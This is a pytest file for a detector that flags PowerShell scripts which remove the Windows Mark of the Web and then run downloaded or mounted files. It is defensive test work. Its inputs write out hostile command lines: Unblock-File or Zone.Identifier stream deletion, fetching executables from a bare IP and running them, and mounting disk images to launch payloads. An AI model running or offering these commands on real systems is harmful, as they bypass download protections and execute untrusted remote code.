"""The mark of the web, taken off by scripts."""

from __future__ import annotations

import pytest
from codesignrisk_core.cmdlets import mark_of_web

from tests.core.lines import ids, judged_script

REMOVED, EXPOSED, MOUNTED = "mark_of_web_removed", "cleared_and_started", "image_mounted_started"
BARE = ("cleared_file_fetched", "input_bare_address")


@pytest.mark.parametrize(
    ("text", "indicators"),
    [
        ("Unblock-File C:\\lab\\a.ps1", [REMOVED]),
        ("Get-ChildItem C:\\lab -Recurse | Unblock-File", [REMOVED]),
        ("Remove-Item C:\\lab\\a.exe -Stream Zone.Identifier", [REMOVED]),
        ("Clear-Content C:\\lab\\a.exe -Stream Zone.Identifier", [REMOVED]),
        ("gci C:\\lab | Unblock-File; start C:\\lab\\a.lnk", [REMOVED]),
        ("Unblock-File C:\\lab\\a.ps1; Start-Process C:\\lab\\a.exe", [REMOVED]),
        # out of a place where any user may write; a disk image; the call operator
        ("Unblock-File $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip; & $env:TEMP\\a\\a.exe", [REMOVED, EXPOSED]),
        ("Unblock-File C:\\Users\\ann\\Downloads\\a.iso; Mount-DiskImage C:\\x\\a.iso", [REMOVED, EXPOSED]),
        ("Unblock-File C:\\Users\\ann\\Downloads\\a.psm1; Import-Module C:\\x\\a.psm1", [REMOVED]),
        ("[IO.File]::Delete('C:\\lab\\a.exe:Zone.Identifier')", [REMOVED]),
        ("[IO.File]::Delete('C:\\lab\\a.exe'); 'Zone.Identifier'", []),
        # all files of a folder
        ("gci $env:USERPROFILE\\Downloads -Recurse | % { Remove-Item $_.FullName -Stream Zone.Identifier }; "
         "Start-Process $env:USERPROFILE\\Downloads\\a.exe", [REMOVED, EXPOSED]),
        # fetched from a host without a name
        ("iwr http://203.0.113.7/a.zip -OutFile $env:TEMP\\a.zip; Unblock-File $env:TEMP\\a.zip; & $env:TEMP\\a.exe",
         [REMOVED, EXPOSED, *BARE]),
        ("iwr https://a.example/a.exe -OutFile $env:TEMP\\a.exe; Unblock-File $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
         [REMOVED, EXPOSED]),
        # disk images
        ("$d = (Mount-DiskImage -ImagePath $env:TEMP\\a.img -PassThru | Get-Volume).DriveLetter; start ($d+':\\a.exe')",
         [MOUNTED]),
        ("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a', 'C:\\Users\\Public\\a.iso'); "
         'Mount-DiskImage C:\\Users\\Public\\a.iso; Start-Process "E:\\a.exe"', [MOUNTED, *BARE]),
        ("Mount-DiskImage \\\\files\\iso\\a.iso; & E:\\setup.exe", []),
        ("Mount-DiskImage C:\\Users\\ann\\Downloads\\a.iso; & E:\\setup.exe", []),
        ("Mount-DiskImage $env:TEMP\\a.iso; Copy-Item E:\\a.txt C:\\lab", []),
        # out of a download whose drive stays out of sight
        ("$d = (Mount-DiskImage C:\\Users\\ann\\Downloads\\a.img -NoDriveLetter -PassThru | Get-DiskImage).DevicePath; "
         "start cmd -arg '/c','mklink /d %tmp%\\v '+$d", [MOUNTED]),
        # wildcards, aliases, shortened names
        ("Remove-Item C:\\lab\\a.exe -Stream Zone.Id*", [REMOVED]),
        ("ri C:\\lab\\a.exe -Stream *", [REMOVED]),
        ("ri C:\\lab\\a.exe -Strea 'z*[q-s]'", [REMOVED]),
        ("del C:\\lab\\a.exe -s Zone.Identifie?", [REMOVED]),
        ("clc C:\\lab\\a.exe -Stream 'other','Zone.Identifier'", [REMOVED]),
        ("gci C:\\lab | ri -Stream other*", []),
        # another stream, a look, a dry run
        ("Remove-Item C:\\lab\\a.exe -Stream other", []),
        ("Get-Content C:\\lab\\a.exe -Stream Zone.Identifier", []),
        ("Unblock-File C:\\lab\\a.ps1 -WhatIf", []),
        ("Remove-Item C:\\lab\\a.exe", []),
    ],
)  # fmt: skip
def test_marks(text: str, indicators: list[str]) -> None:
    assert ids(judged_script(text)) == indicators


def test_the_script_is_looked_through_once_however_many_statements_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    looks: list[str] = []
    monkeypatch.setattr(mark_of_web, "_starts", looks.append)
    judged_script("Unblock-File C:\\lab\\a.ps1;" * 50)
    assert len(looks) == 1
